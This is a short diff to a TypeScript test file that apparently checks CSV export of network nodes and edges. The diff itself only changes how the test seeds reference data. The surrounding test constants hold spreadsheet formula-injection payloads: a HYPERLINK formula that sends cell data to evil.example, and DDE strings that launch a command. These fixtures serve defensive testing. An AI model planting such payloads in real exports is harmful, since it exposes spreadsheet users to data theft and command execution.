@@ -13,7 +13,7 @@ import { applyImport } from "@/lib/hsds/import/run";
 import { edgesCsv, nodesCsv } from "@/lib/network/export";
 import { parseNetworkFilter } from "@/lib/network/filter";
 import { networkView } from "@/lib/network/view";
-import { seedReference } from "@/prisma/seed/reference";
+import { seedReferenceOnly } from "@/tests/support/seed";
 
 const hyperlink = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")';
 const dde = "+cmd|' /C calc'!A0";
@@ -23,7 +23,7 @@ const minus = "-2+3+cmd|' /C calc'!A0";
 let coordinator: Actor;
 
 beforeAll(async () => {
-  await db.$transaction(async (tx) => seedReference(tx), { timeout: 60_000 });
+  await seedReferenceOnly();
   const user = await db.user.create({ data: { email: "koordination@example.org", name: "K", role: "coordinator" } });
   coordinator = { id: user.id, role: "coordinator", organizationId: null };
   const evil = await db.organization.create({
